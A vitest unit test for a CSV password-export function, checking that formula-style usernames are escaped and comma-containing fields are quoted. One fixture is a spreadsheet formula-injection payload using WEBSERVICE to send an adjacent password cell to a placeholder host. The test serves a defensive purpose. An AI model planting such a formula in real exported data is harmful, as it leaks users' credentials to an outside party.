import { expect, test } from "vitest";
import { passwordsFile } from "./passwords-file.ts";

test("[CUS-22] a log-in that is a formula tells nobody the passwords beside it, and one with a comma keeps its own", () => {
  const told = passwordsFile([
    { username: '=WEBSERVICE("http://x/?"&B3)', password: "abcdefghjk" },
    { username: "house 5, gate", password: "bcdefghjkm" },
    { username: " +1;=2", password: "cdefghjkmn" },
  ]);
  expect(told).toBe(
    [
      "username,password",
      '"\'=WEBSERVICE(""http://x/?""&B3)",abcdefghjk',
      '"house 5, gate",bcdefghjkm',
      "\"' +1;'=2\",cdefghjkmn",
      "",
    ].join("\r\n"),
  );
});
